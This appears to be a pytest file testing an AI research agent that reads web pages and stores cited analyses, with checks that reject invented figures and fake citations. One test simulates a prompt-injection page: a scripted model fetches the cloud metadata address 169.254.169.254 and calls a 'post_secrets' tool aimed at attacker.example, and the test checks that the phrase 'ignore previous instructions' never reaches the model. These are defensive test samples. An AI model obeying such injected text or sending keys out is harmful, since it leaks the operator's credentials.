"""The research run driven by a scripted model through the Agents SDK's own Model interface.

The pages come from the loopback fixture site (allow-listed); the knowledge base is the
in-memory fakes (tests/fakes: real chunking, hashed-word vectors); the model is scripted.
Each case ends as docs/researcher.md says.
"""

from __future__ import annotations

import json
import re
from datetime import date

import pytest

from alex.domain.errors import ResearchFailedError
from alex.research.orchestrator import Researcher
from alex.services import Services
from tests.pagesite import PageSite
from tests.scripted_model import (
    Reply,
    ScriptedModel,
    answer,
    point,
    rephrase,
    scripted_researcher,
    sent_text,
    sentence_numbers,
    text,
    tool_call,
)

TODAY = date(2026, 11, 26)


@pytest.fixture
def services(fake_services: Services) -> Services:
    return fake_services


def researcher(
    services: Services, site: PageSite, model: ScriptedModel, *, tools: bool = True, turns: int = 4
) -> Researcher:
    return scripted_researcher(
        services, site.host_port, model, tools=tools, turns=turns, today=TODAY
    )


def stored(services: Services) -> int:
    return services.documents.list_documents(10, 0, {})[1]


def test_a_model_that_calls_a_tool_then_answers_stores_one_cited_analysis(
    services: Services, site: PageSite
) -> None:
    results, news = site.url("/quarterly-results.html"), site.url("/market-news.html")
    index_move = point("The ALD 100 index rose 0.62% to 8,412.55.", "ALD 100 index rose 0.62%")
    model = ScriptedModel([tool_call("fetch_page", url=news), answer(key_points=[index_move])])
    steps: list[tuple[str, str]] = []
    result = researcher(services, site, model).run(
        "Corvane Q3", [results], lambda step, detail: steps.append((step, detail))
    )

    assert [step for step, _ in steps] == ["read", "recall", "write", "store", "done"]
    first, second = model.calls
    assert first.tools == ["fetch_page", "search_knowledge"]
    assert first.schema is not None and set(first.schema["required"]) >= {"title", "key_points"}
    assert '<page url=\\"' + results in json.dumps(first.input)
    # The tool's answer (the fetched page as numbered sentences) went back to the model.
    assert '<page url=\\"' + news in json.dumps(second.input)
    # The sources are the pages the kept points and risks cite, in order, titled as read.
    assert [s.url for s in result.analysis.sources] == [news, results]
    assert result.analysis.sources[0].title.startswith("Stocks edge higher")
    assert result.analysis.key_points == ["The ALD 100 index rose 0.62% to 8,412.55."]
    assert result.analysis.topic == "Corvane Q3" and result.analysis.model == "scripted"
    assert result.analysis.as_of == TODAY.isoformat()
    assert stored(services) == 1
    document = services.documents.get(result.document_id)
    assert document.source_id == "research/corvane-q3/2026-11-26"
    assert document.metadata["kind"] == "research"
    assert document.metadata["verification"] == "checked"
    assert "## Key points" in document.text and news in document.text
    hits = services.search.search("ALD 100 index", 3, "hybrid", {"kind": "research"})
    assert hits and hits[0].document_id == result.document_id


def test_a_model_without_tools_phrases_the_sentences_the_code_chose(
    services: Services, site: PageSite
) -> None:
    """The code picks the key sentences (revenue, margins, profit, outlook, risks); the
    model phrases each. A phrasing that changes a figure gives way to its sentence."""
    url = site.url("/quarterly-results.html")

    def edit(sentence: str) -> str:
        if sentence.startswith("Revenue of $412.6 million"):
            return "Revenue was $412.6 million, up 14.2% from a year earlier."
        if "expects revenue of $425 million" in sentence:
            return "Corvane expects fourth-quarter revenue of about $435 million."  # invented
        return sentence

    model = ScriptedModel([rephrase(edit)])
    result = researcher(services, site, model, tools=False).run("Corvane third quarter", [url])
    (call,) = model.calls
    assert call.tools == [] and call.schema is not None
    assert set(call.schema["required"]) == {"title", "points"}
    sent = sentence_numbers(call)
    assert any("Revenue of $412.6 million" in s for s in sent)
    assert any("expects revenue of $425 million" in s for s in sent)
    analysis = result.analysis
    assert analysis.key_points[0] == "Revenue was $412.6 million, up 14.2% from a year earlier."
    # The invented "$435 million" is not stored: the sentence is, as the page wrote it.
    assert not any("$435" in point for point in analysis.key_points)
    assert any(
        point.startswith("For the fourth quarter of 2026, Corvane expects revenue of $425")
        for point in analysis.key_points
    )
    assert [(r.reason, r.detail) for r in result.rejected] == [
        ("figure-not-in-cited-sentence", "$435 million")
    ]
    assert analysis.title == "Corvane reports Q3 2026"
    assert [s.url for s in analysis.sources] == [url]
    assert result.status == "created" and stored(services) == 1
    assert result.unverified_figures == []


def test_a_retried_run_on_the_same_day_replaces_its_document(
    services: Services, site: PageSite
) -> None:
    url = site.url("/quarterly-results.html")
    first = researcher(services, site, ScriptedModel([answer()])).run("Corvane", [url])
    second = researcher(services, site, ScriptedModel([answer(title="Corvane, revised")])).run(
        "  corvane ", [url]
    )
    assert (second.document_id, second.status) == (first.document_id, "updated")
    assert stored(services) == 1


def test_without_a_topic_the_planner_chooses_a_page_title_by_number(
    services: Services, site: PageSite
) -> None:
    urls = [site.url("/quarterly-results.html"), site.url("/prompt-injection.html")]
    model = ScriptedModel([text(json.dumps({"choice": 2})), answer()])
    result = researcher(services, site, model).run(None, urls)
    planner_call, _ = model.calls
    assert planner_call.tools == [] and planner_call.schema is not None
    offered = re.findall(r"^(\d)\. (.*)$", sent_text(planner_call), re.M)
    assert len(offered) == 2
    # Whatever the model answers, the topic is one of the pages' titles, verbatim.
    assert result.analysis.topic == offered[1][1]
    assert result.analysis.topic in {page.title for page in result.pages}


def test_a_planner_choice_out_of_range_falls_back_to_the_best_supported_title(
    services: Services, site: PageSite
) -> None:
    urls = [site.url("/quarterly-results.html"), site.url("/prompt-injection.html")]
    model = ScriptedModel([text(json.dumps({"choice": 5})), answer()])
    result = researcher(services, site, model).run(None, urls)
    offered = re.findall(r"^(\d)\. (.*)$", sent_text(model.calls[0]), re.M)
    assert result.analysis.topic == offered[0][1]


def test_one_page_needs_no_planner_call(services: Services, site: PageSite) -> None:
    url = site.url("/quarterly-results.html")
    model = ScriptedModel([answer()])
    result = researcher(services, site, model).run(None, [url])
    assert len(model.calls) == 1  # only the analyst
    assert result.analysis.topic == "Corvane Instruments Reports Third Quarter 2026 Results"


@pytest.mark.parametrize(
    ("reply", "message"),
    [
        (text("Here is my analysis: revenue rose."), "not a valid analysis"),
        (answer(key_points=[]), "not a valid analysis"),
        (text(json.dumps({"title": "only a title"})), "not a valid analysis"),
    ],
)
def test_an_invalid_answer_fails_and_stores_nothing(
    services: Services, site: PageSite, reply: Reply, message: str
) -> None:
    url = site.url("/quarterly-results.html")
    with pytest.raises(ResearchFailedError, match=message):
        researcher(services, site, ScriptedModel([reply])).run("Corvane", [url])
    assert stored(services) == 0


def test_a_run_that_exceeds_its_turn_limit_fails_and_stores_nothing(
    services: Services, site: PageSite
) -> None:
    url = site.url("/quarterly-results.html")
    loop = tool_call("search_knowledge", query="Corvane")
    model = ScriptedModel([loop] * 10)
    with pytest.raises(ResearchFailedError, match="did not finish within 3 turns"):
        researcher(services, site, model, turns=3).run("Corvane", [url])
    assert len(model.calls) == 3 and stored(services) == 0


def test_points_citing_sentences_never_shown_are_dropped_and_none_left_fails(
    services: Services, site: PageSite
) -> None:
    """A fake citation costs its point, not the run; a run with nothing real fails."""
    url = site.url("/quarterly-results.html")
    invented = {"cites": [9999], "text": "Revenue was $999.9 million."}
    model = ScriptedModel(
        [answer(key_points=[invented, point("Gross margin was 58.4%.", "58.4%")])]
    )
    result = researcher(services, site, model).run("Corvane", [url])
    assert result.analysis.key_points == ["Gross margin was 58.4%."]
    assert [(r.reason, r.detail) for r in result.rejected] == [("no-valid-citation", "9999")]

    model = ScriptedModel([answer(key_points=[invented], risks=[])])
    with pytest.raises(ResearchFailedError, match="No key point passed the checks"):
        researcher(services, site, model).run("Other topic", [url])
    assert stored(services) == 1


def test_a_model_obeying_an_injected_instruction_cannot_reach_metadata_or_other_tools(
    services: Services, site: PageSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The prompt-injection page asks for the API key and the metadata address. Its passage
    is never shown to the model; a model that fetches the address anyway gets a refusal; a
    call to a tool that does not exist ends the run with nothing stored; no secret is ever
    in what the model is sent."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-never-sent-0123456789")
    url = site.url("/prompt-injection.html")
    metadata_url = "http://169.254.169.254/latest/meta-data/"
    yield_point = point("Ashgrove Water yields 4.3%.", "Ashgrove Water (yield 4.3%)")
    model = ScriptedModel(
        [tool_call("fetch_page", url=metadata_url), answer(key_points=[yield_point], risks=[])]
    )
    result = researcher(services, site, model).run("Dividend stocks", [url])
    refusal = json.dumps(model.calls[1].input)
    assert "169.254.169.254" in refusal and "refused" in refusal.lower()
    assert [s.url for s in result.analysis.sources] == [url]
    assert all(request.path != "/latest/meta-data/" for request in site.requests)

    model = ScriptedModel([tool_call("post_secrets", to="http://attacker.example/collect")])
    with pytest.raises(ResearchFailedError):
        researcher(services, site, model).run("Another", [url])
    sent = json.dumps([(c.instructions, c.input) for c in model.calls])
    assert "sk-secret" not in sent
    assert "ignore previous instructions" not in sent.lower() and "attacker.example" not in sent
    assert stored(services) == 1


def test_no_readable_source_fails_before_any_model_call(services: Services, site: PageSite) -> None:
    model = ScriptedModel([])
    with pytest.raises(ResearchFailedError, match="No source could be read") as error:
        researcher(services, site, model).run(
            "Corvane", [site.url("/status/500"), "http://10.0.0.1/"]
        )
    assert "10.0.0.1" in error.value.message and model.calls == []
    assert stored(services) == 0


def test_repeated_points_are_kept_once(services: Services, site: PageSite) -> None:
    """Small models repeat themselves: a point said twice, or as a risk too, is kept once."""
    url = site.url("/quarterly-results.html")
    same = point("Revenue was $412.6 million.", "Revenue of $412.6 million")
    again = point(" revenue was  $412.6 million.", "Revenue of $412.6 million")
    margin = point("Gross margin was 58.4%.", "Gross margin of 58.4%")
    risk = point("Memory-chip spending softened.", "memory-chip capital")
    model = ScriptedModel([answer(key_points=[same, again, margin], risks=[same, risk, risk])])
    analysis = researcher(services, site, model).run("Corvane", [url]).analysis
    assert analysis.key_points == ["Revenue was $412.6 million.", "Gross margin was 58.4%."]
    assert analysis.risks == ["Memory-chip spending softened."]
